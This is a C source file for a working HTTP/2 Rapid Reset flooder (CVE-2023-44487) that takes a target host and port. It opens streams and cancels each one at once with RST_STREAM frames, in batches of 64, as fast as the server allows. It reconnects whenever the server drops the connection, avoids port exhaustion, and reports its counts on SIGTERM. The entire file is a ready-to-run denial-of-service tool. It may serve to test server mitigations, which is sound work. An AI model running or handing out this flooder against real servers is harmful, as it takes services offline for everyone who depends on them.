// SPDX-License-Identifier: Apache-2.0
// A client that opens HTTP/2 streams and resets each at once (CVE-2023-44487), as fast as it is let: over one
// connection after the other, when the server ends them. On SIGTERM it prints JSON: what it did. usage: flood HOST PORT
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { STREAMS_AT_ONCE = 64, FRAME_HEAD = 9 };

static const char hello[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0"; // and empty SETTINGS
// HPACK: GET, http, "/" of the static table; :authority as a literal.
static const char fields[] = "\x82\x86\x84\x01\x02h2";
static volatile sig_atomic_t ended;

static void end(int number) {
    (void)number;
    ended = 1;
}

static char* frame(char* to, int type, int flags, uint32_t stream, const char* payload, size_t length) {
    uint32_t id = htonl(stream);
    memcpy(to, (char[]){0, 0, (char)length, (char)type, (char)flags}, 5);
    memcpy(to + 5, &id, sizeof id);
    memcpy(to + FRAME_HEAD, payload, length);
    return to + FRAME_HEAD + length;
}

static int dial(const struct sockaddr_in* to) {
    struct linger abort_at_close = {1, 0}; // no TIME_WAIT: the ephemeral ports would be used up
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(fd, SOL_SOCKET, SO_LINGER, &abort_at_close, sizeof abort_at_close);
    if (connect(fd, (const void*)to, sizeof *to) == 0 &&
        send(fd, hello, sizeof hello - 1, MSG_NOSIGNAL) == sizeof hello - 1)
        return fd;
    close(fd);
    return -1;
}

// Whether the server still listens to us; what it says is thrown away.
static bool drained(int fd) {
    static char dropped[65536];
    ssize_t got;
    while ((got = recv(fd, dropped, sizeof dropped, MSG_DONTWAIT)) > 0)
        ;
    return got < 0 && errno == EAGAIN;
}

static uint64_t flood(int fd) {
    char block[STREAMS_AT_ONCE * 64];
    uint32_t stream = 1;
    while (!ended && stream < INT32_MAX - 2 * STREAMS_AT_ONCE && drained(fd)) {
        char* to = block;
        for (int i = 0; i < STREAMS_AT_ONCE; i++, stream += 2) {
            to = frame(to, 1, 5, stream, fields, sizeof fields - 1); // HEADERS: END_STREAM, END_HEADERS
            to = frame(to, 3, 0, stream, "\0\0\0\x8", 4);            // RST_STREAM: CANCEL
        }
        if (send(fd, block, to - block, MSG_NOSIGNAL) != to - block)
            break;
    }
    return stream / 2;
}

int main(int c, char** v) {
    struct sockaddr_in to = {.sin_family = AF_INET};
    if (c != 3 || inet_pton(AF_INET, v[1], &to.sin_addr) != 1)
        return 2;
    to.sin_port = htons(atoi(v[2]));
    sigaction(SIGTERM, &(struct sigaction){.sa_handler = end}, NULL);
    uint64_t connections = 0, refused = 0, streams = 0;
    while (!ended) {
        int fd = dial(&to);
        if (fd < 0) {
            refused++;
            usleep(1000);
            continue;
        }
        connections++;
        streams += flood(fd);
        close(fd);
    }
    printf("{\"connections\": %lu, \"refused\": %lu, \"streams\": %lu}\n", connections, refused, streams);
    return 0;
}
